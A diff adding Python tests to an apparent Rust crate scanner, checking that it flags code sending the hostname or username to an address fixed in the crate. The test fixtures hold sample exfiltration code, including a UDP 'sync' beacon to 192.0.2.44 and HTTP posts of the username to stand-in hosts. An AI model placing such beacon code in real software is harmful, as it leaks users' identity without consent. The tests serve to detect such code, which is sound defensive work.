@@ -303,6 +303,53 @@ def test_a_flow_to_an_address_the_crate_fixes() -> None:
     assert [flow.fixed for flow in flows(chosen)] == [False]
 
 
+def test_host_facts_count_only_when_sent_to_an_address_the_crate_fixes() -> None:
+    # the computer's name copied into a datagram's buffer, sent to a raw IP of the crate's
+    beacon = (
+        "fn node() -> String {\n"
+        '    std::fs::read_to_string("/etc/hostname")\n'
+        '        .or_else(|_| std::env::var("COMPUTERNAME")).unwrap_or_default()\n'
+        "}\n"
+        "pub fn sync() {\n"
+        "    let mut pkt = [0u8; 48];\n"
+        "    let n = node();\n"
+        "    pkt[12..12 + n.len().min(36)].copy_from_slice(&n.as_bytes()[..n.len().min(36)]);\n"
+        '    let s = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();\n'
+        '    let _ = s.send_to(&pkt, ("192.0.2.44", 123));\n'
+        "}\n"
+    )
+    (flow,) = flows(beacon)
+    assert (flow.function, flow.sources, flow.fixed) == ("sync", frozenset({"host-facts"}), True)
+    for source in ("hostname::get().unwrap()", "whoami::username()", 'std::env::var("USER")'):
+        post = f'ureq::post("https://a.example/b").send_string(&{source})'
+        request = f"pub fn f() {{ let _ = {post}; }}"
+        assert [flow.sources for flow in flows(request)] == [frozenset({"host-facts"})]
+    # to a server the user chose: a monitoring agent reports the host it runs on
+    chosen = (
+        "pub fn report(server: &str) {\n"
+        "    let name = hostname::get().unwrap();\n"
+        "    let _ = ureq::post(server).send_string(&name);\n"
+        "}\n"
+    )
+    assert flows(chosen) == []
+
+
+def test_host_facts_to_a_fixed_address_are_exfiltration_not_collection() -> None:
+    source = (
+        "pub fn hello() {\n"
+        '    let _ = ureq::post("https://198.51.100.7/h").send_string(&whoami::username());\n'
+        "}\n"
+    )
+    manifest = b'[package]\nname = "beacon"\nversion = "0.1.0"\n'
+    archive = CrateArchive("beacon", {"Cargo.toml": manifest, "src/lib.rs": source.encode()}, ())
+    found = {e.rule: e.snippet for e in scan_crate(archive, "beacon").findings}
+    assert found["threat-dataflow-exfiltration"] == (
+        "fn hello sends the computer's or the user's name through HTTP request send_string"
+        " to an address fixed in the crate"
+    )
+    assert "threat-dataflow-fixed-destination" not in found
+
+
 def test_a_decoder_given_only_literals_and_a_constant_by_its_path() -> None:
     tables = (
         'pub const T: [&str; 2] = ["2e6a6b73", "68747470"];\n'
